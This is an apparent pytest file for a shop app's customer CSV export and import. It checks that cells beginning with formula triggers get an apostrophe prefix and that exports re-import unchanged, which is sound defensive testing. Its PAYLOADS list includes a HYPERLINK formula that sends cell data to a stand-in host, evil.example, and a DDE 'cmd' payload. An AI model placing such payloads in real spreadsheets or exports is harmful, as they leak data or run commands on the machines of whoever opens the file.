"""Every CSV the app writes is safe to open in a spreadsheet (issue 10, item 7).

OWASP "CSV Injection": a cell starting with = + - @ tab or CR runs as a formula in
Excel, LibreOffice and Google Sheets; each gets a leading apostrophe. The app's own
import drops exactly that apostrophe again, so an export re-imports unchanged
(phones in +44 form, notes starting with a dash, a Dutch "'s-Hertogenbosch").
"""

from __future__ import annotations

import csv
from pathlib import Path
from uuid import UUID

from shopdesk.cli import main
from shopdesk.domain.customer_rules import CustomerInput
from shopdesk.shop import Shop

PAYLOADS = ["=1+2", "+1+2", "-1+2", "@SUM(1+2)", "\t=1+2", "\r=1+2",
            '=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_guard_and_unguard_are_inverse() -> None:
    from shopdesk.services.customers.csv_read import unguard
    from shopdesk.services.customers.csv_write import guard

    for value in [*PAYLOADS, "'=x", "''-x", "'s-Hertogenbosch", "'t Hoekje", "+447400123456",
                  "-", "Ana", "", "'", "x=1"]:
        guarded = guard(value)
        assert not guarded.startswith(TRIGGERS)
        assert unguard(guarded) == value, value
    assert guard("'s-Hertogenbosch") == "'s-Hertogenbosch"  # left alone both ways
    assert unguard("'+447400123456") == "+447400123456"


def test_export_neutralises_every_payload(shop: Shop, tmp_path: Path) -> None:
    ids: list[UUID] = []
    for n in range(len(PAYLOADS)):
        ids.append(shop.customers.register(CustomerInput(
            first_name="Ana", last_name=f"Payload{n}", phone=f"+4474005000{n:02d}",
            company="Acme", notes="ok")).customer.id)
    # Stored as they might arrive from another counter or an older version: raw,
    # leading tab and CR included (the forms would have trimmed those).
    with shop.store.write() as session:
        for customer_id, payload in zip(ids, PAYLOADS, strict=True):
            session.connection().exec_driver_sql(
                "UPDATE customers SET first_name = ?, company = ?, notes = ?, city = ? "
                "WHERE id = ?", (payload, payload, payload, payload, customer_id.hex))
    target = tmp_path / "all.csv"
    assert shop.transfer.export(target) == len(PAYLOADS)
    rows = cells(target)
    for row in rows[1:]:
        for value in row:
            assert not value.startswith(TRIGGERS), (value, row)
    header = rows[0]
    firsts = [row[header.index("first_name")] for row in rows[1:]]
    assert firsts == ["'" + p for p in PAYLOADS]  # 8 of 8 neutralised
    phones = [row[header.index("phone")] for row in rows[1:]]
    assert all(p.startswith("'+44") for p in phones)


def test_the_rejects_file_neutralises_the_rows_it_echoes(shop: Shop, tmp_path: Path) -> None:
    source = tmp_path / "evil.csv"
    with source.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["first_name", "last_name", "phone", "notes"])
        for payload in PAYLOADS:
            writer.writerow([payload, payload, "not a phone", payload])
    assert main(["import", "customers", str(source), "--data-dir", str(shop.root)]) == 3
    rows = cells(tmp_path / "evil.rejects.csv")
    assert len(rows) == len(PAYLOADS) + 1
    for row in rows[1:]:
        for value in row:
            assert not value.startswith(TRIGGERS), (value, row)


def test_export_re_imports_unchanged(shop: Shop, tmp_path: Path) -> None:
    values = [
        CustomerInput(first_name="Ana", last_name="De Vries", phone="+44 7400 600001",
                      city="'s-Hertogenbosch", company="'t Hoekje",
                      notes="- called twice\n- wants a quote", customer_type="business"),
        CustomerInput(first_name="+Plus", last_name="-Minus", phone="+33 6 12 34 56 78",
                      country="FR", notes="=not a formula", address_line1="@home",
                      company="'=odd"),
    ]
    for data in values:
        shop.customers.register(data)
    target = tmp_path / "out.csv"
    shop.transfer.export(target)
    other = tmp_path / "other"
    assert main(["import", "customers", str(target), "--data-dir", str(other)]) == 0

    def people(s: Shop) -> list[dict[str, object]]:
        keep = ("first_name", "last_name", "phone", "city", "company", "notes",
                "address_line1", "country", "customer_type")
        out = []
        for c in s.customers.summaries(s.customers.search_ids("", 100)):
            fields = s.customers.profile(c.id).values
            out.append({k: fields[k] for k in keep})
        return sorted(out, key=lambda r: str(r["phone"]))

    with Shop.open(other) as copy:
        assert people(copy) == people(shop)
        assert people(copy)[0]["phone"] == "+33612345678"
